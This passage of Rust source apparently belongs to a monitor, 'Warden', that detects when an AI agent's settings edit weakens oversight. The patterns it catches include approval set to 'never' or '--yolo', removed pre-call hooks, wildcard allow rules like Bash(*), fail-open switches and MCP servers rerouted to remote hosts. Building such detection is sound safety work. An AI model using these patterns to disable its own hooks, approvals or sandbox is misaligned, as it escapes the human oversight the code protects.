        "approval_policy = \"never\"",
        "approval_policy=\"never\"",
        "\"approval_policy\": \"never\"",
    ];
    NEEDLES.iter().any(|n| t.contains(n)) || t.split_whitespace().any(|w| w == "--yolo")
}

static SETTING: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r#"(?i)"?([a-z][a-z0-9_.-]{1,63})"?\s*[:=]\s*"?([a-z0-9_-]{1,32})"?"#).ok()
});

/// A whole settings file written with the monitor's gate still in it: a hook on an event
/// that runs before a call (`PreToolUse`, `BeforeTool`, `beforeShellExecution`) whose command
/// runs Warden, or hooks switched on. Such a write changes other settings; one that keeps only
/// an after-the-fact hook, or names Warden but runs `true`, unhooks the gate.
fn keeps_monitor_hooks(text: &str) -> bool {
    static GATE: LazyLock<Option<Regex>> = LazyLock::new(|| {
        Regex::new(
            r#"(?is)"(?:pre|before)[a-z]*"\s*:\s*\[[^\]]{0,400}?"command"\s*:\s*"[^"]*warden"#,
        )
        .ok()
    });
    static ON: LazyLock<Option<Regex>> =
        LazyLock::new(|| Regex::new(r#"(?i)"?enable_?hooks"?\s*[:=]\s*true"#).ok());
    let text = &text[..floor_boundary(text, 64 * 1024)];
    GATE.as_ref().is_some_and(|re| re.is_match(text))
        || ON.as_ref().is_some_and(|re| re.is_match(text))
}

/// An allow rule an edit adds that matches every call of a tool or every tool (`Bash(*)`,
/// `Shell(*)`, `Write(**)`, `mcp__*`), which the old text did not have (a hook matcher `"*"`
/// is not an allow rule).
fn allows_everything(old: &str, new: &str) -> Option<String> {
    static RULE: LazyLock<Option<Regex>> = LazyLock::new(|| {
        Regex::new(r#"["']((?:[A-Za-z]+\(\s*\*{1,2}(?::\*)?\s*\))|mcp__\*)["']"#).ok()
    });
    let re = RULE.as_ref()?;
    if !new.to_ascii_lowercase().contains("allow") {
        return None;
    }
    let text = &new[..floor_boundary(new, 16 * 1024)];
    re.captures_iter(text)
        .filter_map(|c| c.get(1))
        .map(|m| m.as_str())
        .find(|rule| !old.contains(rule))
        .map(str::to_owned)
}

/// Key words of settings that keep an agent watched or asking (any agent's spelling).
const OVERSIGHT_KEY_WORDS: &[&str] = &[
    "hook",
    "audit",
    "telemetry",
    "monitor",
    "sandbox",
    "approval",
    "confirm",
    "permission",
    "guard",
    "safe",
    "failclosed",
    "fail_closed",
    "failopen",
    "fail_open",
];

/// Values that switch such a setting off or to its most permissive mode.
const PERMISSIVE_VALUES: &[&str] = &[
    "false",
    "0",
    "off",
    "no",
    "none",
    "never",
    "disabled",
    "disable",
    "yolo",
    "auto",
    "bypass",
    "bypasspermissions",
    "full-access",
    "danger-full-access",
    "allow-all",
];

/// A setting an edit weakens, by shape: a key about hooks, auditing, sandboxing or approval
/// whose value the new text turns off or to a permissive mode, or a `disable…` key turned on.
/// Returns the key and whether it is an approval/permission mode (an escalation too).
fn weakened_setting(old: &str, new: &str) -> Option<(String, bool)> {
    let re = SETTING.as_ref()?;
    let pairs = |t: &str| -> Vec<(String, String)> {
        re.captures_iter(&t[..floor_boundary(t, 16 * 1024)])
            .take(64)
            .filter_map(|c| {
                Some((
                    c.get(1)?.as_str().to_ascii_lowercase(),
                    c.get(2)?.as_str().to_ascii_lowercase(),
                ))
            })
            .collect()
    };
    let before = pairs(old);
    for (k, v) in pairs(new) {
        if !OVERSIGHT_KEY_WORDS.iter().any(|w| k.contains(w)) {
            continue;
        }
        let was = before
            .iter()
            .find(|(ok, _)| *ok == k)
            .map(|(_, ov)| ov.as_str());
        if was == Some(v.as_str()) {
            continue;
        }
        // a hook that fails open lets every call through when the monitor is slow or down
        let disabling_key = k.contains("disable")
            || k.contains("skip")
            || k.contains("failopen")
            || k.contains("fail_open");
        let weaker = if disabling_key {
            matches!(v.as_str(), "true" | "1" | "yes" | "on")
        } else {
            PERMISSIVE_VALUES.contains(&v.as_str())
        };
        if weaker {
            let mode = (k.contains("approval") || k.contains("permission")) && !disabling_key;
            return Some((k, mode));
        }
    }
    None
}

/// Whether an edit of an agent settings file weakens oversight: it removes hook, permission or
/// Warden entries, or writes a bypass. Adding a hook (a formatter) or a status line does not.
/// An edit of MCP client config that replaces a local (gateway) endpoint with a remote one: the
/// old text names a loopback URL or Warden, the new text names a non-loopback URL instead.
fn reroutes_mcp_server(old: &str, new: &str) -> bool {
    let local = |t: &str| {
        let l = t.to_ascii_lowercase();
        find_urls(t)
            .iter()
            .filter_map(|u| url_host(u))
            .filter(|h| is_loopback_host(h))
            .count()
            + l.matches("warden").count()
    };
    let remote = |t: &str| {
        find_urls(t)
            .iter()
            .filter_map(|u| url_host(u))
            .filter(|h| !is_loopback_host(h))
            .count()
    };
    local(old) > local(new) && remote(new) > remote(old)
}

fn is_loopback_host(h: &str) -> bool {
    let h = h.trim_start_matches('[').trim_end_matches(']');
    h == "localhost" || h.starts_with("127.") || h == "::1" || h == "0.0.0.0"
}

fn weakens_oversight_settings(old: &str, new: &str) -> bool {
    if weakened_setting(old, new).is_some() {
        return true;
    }
    let (o, n) = (old.to_ascii_lowercase(), new.to_ascii_lowercase());
    if [
        "disableallhooks",
        "bypass",
        "\"defaultmode\"",
        "dangerously",
        "warden_",
    ]
    .iter()
    .any(|k| n.contains(k) && !o.contains(k))
    {
        return true;
    }
    [
        "hook",
        "permission",
        "\"deny\"",
        "\"ask\"",
        "warden",
        "pretooluse",
        "sandbox",
        "approval",
    ]
    .iter()
    .any(|k| o.matches(k).count() > n.matches(k).count())
}

const META_PROGRAMS: &[&str] = &[
    "ls",
    "stat",
    "test",
    "[",
    "[[",
    "file",
    "du",
    "df",
    "realpath",
    "readlink",
    "dirname",
    "basename",
    "which",
    "whereis",
    "type",
    "cd",
    "pushd",
    "popd",
    "wc",
    "tree",
    "exa",
    "eza",
    "lsd",
    "md5sum",
    "sha256sum",
    "sha1sum",
    "shasum",
    "cksum",
    "lsattr",
    "getfacl",
    "namei",
    "du",
    "fd",
    "locate",
];
const READONLY_PROGRAMS: &[&str] = &[
    "cat",
    "head",
    "tail",
    "less",
    "more",
    "grep",
    "egrep",
    "fgrep",
    "rg",
    "ag",
    "ack",
    "awk",
    "gawk",
    "sed",
    "jq",
    "yq",
    "sort",
    "uniq",
    "cut",
    "tr",
    "diff",
    "cmp",
    "comm",
    "base64",
    "xxd",
    "od",
    "hexdump",
    "strings",
    "pwd",
    "echo",
    "printf",
    "date",
    "whoami",
    "id",
    "uname",
    "hostname",
    "ps",
    "pgrep",
    "top",
    "htop",
    "env",
    "printenv",
    "true",
    "false",
    "sleep",
    "nproc",
    "free",
    "uptime",
    "column",
    "nl",
    "fold",
    "fmt",
    "paste",
    "join",
    "tac",
    "rev",
    "seq",
    "lsof",
    "netstat",
    "ss",
    "dig",
    "nslookup",
    "host",
    "ping",
    "traceroute",
    "man",
    "help",
    "alias",
    "ulimit",
    "locale",
    "tput",
    "clear",
    "exit",
    "return",
    "read",
    "wait",
    "jobs",
    "trap",
    "shift",
    "local",
    "let",
    ":",
    "bat",
    "zcat",
    "gunzip",
    "bzcat",
    "xzcat",
    "tldr",
    "info",
    "groups",
    "getent",
    "lscpu",
    "lsblk",
    "mount",
    "env",
    "sw_vers",
    "sysctl",
    "ip",
    "ifconfig",
    "arp",
    "route",
    "openssl",
    "ssh-keygen",
    "gpg",
    "tput",
    "cal",
    "bc",
    "expr",
    "numfmt",
    "iconv",
    "dos2unix",
    "xargs",
    "timeout",
    "watch",
    "whatis",
    "apropos",
    "code",
    "vim",
    "vi",
    "nano",
    "emacs",
    "view",
];

#[cfg(test)]
mod tests;
#[cfg(test)]
mod tests_action;
